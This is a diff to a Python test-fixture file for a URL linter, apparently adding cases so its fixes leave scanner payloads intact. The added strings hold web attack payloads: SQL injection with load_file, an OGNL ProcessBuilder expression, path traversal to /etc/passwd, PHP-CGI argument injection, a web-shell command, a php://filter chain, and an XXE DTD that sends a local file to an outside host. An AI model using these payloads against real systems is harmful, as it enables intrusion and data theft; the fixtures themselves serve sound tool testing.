@@ -1,5 +1,5 @@
 """Findings and fixes that were wrong on real repositories and on files of
-their real shapes, found from 2026-11-29's session on (sweeps 193 to 195).
+their real shapes, found from 2026-11-29's session on (sweeps 193 to 196).
 
 Evidence in the sweeps' repro folders (/work/sweepNN/repro), not in the repo.
 """
@@ -147,6 +147,36 @@ RST_TEMPLATE = (
     '`Docs <https://docs.example.org/%7euser/>`__\n'
 )
 
+# Attack payloads the detector missed, whose safe fixes rewrote the bytes
+# a scanner sends (sweep 196: nuclei templates, write-ups): SQL joined by
+# encoded comments, MySQL's load_file, an OGNL expression a URL stands in,
+# a PHP wrapper, CVE-2012-1823's CGI option, overlong dots, a web shell's
+# command. A plain URL beside them keeps its safe fix.
+PAYLOAD_SHAPES = (
+    'payloads:\n'
+    "  - 'http://192.168.1.13/sqli.php?id=1%27%2b%28%28select%20load%5ffile%28%27%5c%5c%27%29%29%29'\n"
+    "  - 'GET /?redirect:${%23a%3d(new%20java.lang.ProcessBuilder()),%23u%3d\"http://{{Host}}.oast.example/r%3d\"} HTTP/1.1'\n"
+    '  - http://127.0.0.1:4848/theme/META-INF%2f%25c0%25ae%25c0%25ae%2fetc%2fpasswd\n'
+    '  - http://victim.example/php-nuke/?%2f**%2funion%2f**%2fselect\n'
+    '  - http://chal.example:50008/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input\n'
+    '  - http://chal.example:8082/data/avatar.png%3fhacked.php?cmd=ls\n'
+    '  - https://example.com/a%3fb\n'
+)
+# An XML DTD's parameter entity references in an entity's value: an XXE
+# payload's exfiltration URL, not malformed or non-UTF-8 octets (sweep 196).
+XXE_ENTITIES = (
+    '<!ENTITY % file SYSTEM "file:///sys/power/image_size">\n'
+    '<!ENTITY % all "<!ENTITY send SYSTEM \'http://public.example.com/?%file;\'>">\n'
+    '<!ENTITY % data "<!ENTITY exfil SYSTEM \'http://10.10.10.10/dtd.xml?%data;&x=%e9\'>">\n'
+    '%all;\n'
+)
+# PHP's filter chain: "|" joins php://filter's filters (sweep 196: LFI
+# payloads); a "|" in another URL is still reported.
+PHP_FILTERS = (
+    "$s = file_get_contents('php://filter/read=string.toupper|string.rot13/resource=data.txt');\n"
+    "$u = 'https://example.com/a|b';\n"
+)
+
 SWEEP193_CASES = [
     (MINECRAFT_CODES, 'src/ui/about.js', [(3, 43, 'URI002'), (4, 41, 'URI005')],
      'form.body("§aWiki: §bhttps://wiki.example.com/andexdb/§r\\n§aSite: §bhttps://www.example.com§r");\nreturn s.indexOf("§6Info: §r§f§nhttp://plots.example.net/§r§f§n §r") >= 0;\nconst plot = "§bhttps://plots.example.net/~plot§r§f";\nconst law = "https://example.com/gesetz/§_1";\n',
@@ -193,6 +223,15 @@ SWEEP193_CASES = [
     (BIBTEX_ESCAPES, 'export.bibtex', [(2, 78, 'URI002')],
      None,
      '@book{Ogden1923,\n  url = {http://courses.example.edu/2004spring/mas966/Ogden\\%20Richards\\_1923A.pdf},\n}\n'),
+    (PAYLOAD_SHAPES, 'templates/OOB-SQLI-2.yaml', [(2, 42, 'URI001'), (2, 64, 'URI002'), (3, 103, 'URI001'), (4, 41, 'URI001'), (4, 44, 'URI003'), (5, 37, 'URI001'), (6, 52, 'URI001'), (7, 45, 'URI001'), (8, 26, 'URI001')],
+     'payloads:\n  - \'http://192.168.1.13/sqli.php?id=1%27%2b%28%28select%20load%5ffile%28%27%5c%5c%27%29%29%29\'\n  - \'GET /?redirect:${%23a%3d(new%20java.lang.ProcessBuilder()),%23u%3d"http://{{Host}}.oast.example/r%3d"} HTTP/1.1\'\n  - http://127.0.0.1:4848/theme/META-INF%2f%25c0%25ae%25c0%25ae%2fetc%2fpasswd\n  - http://victim.example/php-nuke/?%2f**%2funion%2f**%2fselect\n  - http://chal.example:50008/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input\n  - http://chal.example:8082/data/avatar.png%3fhacked.php?cmd=ls\n  - https://example.com/a%3Fb\n',
+     'payloads:\n  - \'http://192.168.1.13/sqli.php?id=1%27%2B%28%28select%20load_file%28%27%5C%5C%27%29%29%29\'\n  - \'GET /?redirect:${%23a%3d(new%20java.lang.ProcessBuilder()),%23u%3d"http://{{Host}}.oast.example/r%3D"} HTTP/1.1\'\n  - http://127.0.0.1:4848/theme/META-INF%2F%25c0%25ae%25c0%25ae%2Fetc%2Fpasswd\n  - http://victim.example/php-nuke/?%2F**%2Funion%2F**%2Fselect\n  - http://chal.example:50008/?-d+allow_url_include%3D1+-d+auto_prepend_file%3Dphp://input\n  - http://chal.example:8082/data/avatar.png%3Fhacked.php?cmd=ls\n  - https://example.com/a%3Fb\n'),
+    (PHP_FILTERS, 'src/read.php', [(2, 28, 'URI004')],
+     None,
+     "$s = file_get_contents('php://filter/read=string.toupper|string.rot13/resource=data.txt');\n$u = 'https://example.com/a%7Cb';\n"),
+    (XXE_ENTITIES, 'XXE/evil.dtd', [(3, 77, 'URI007')],
+     None,
+     None),
 ]
 
 
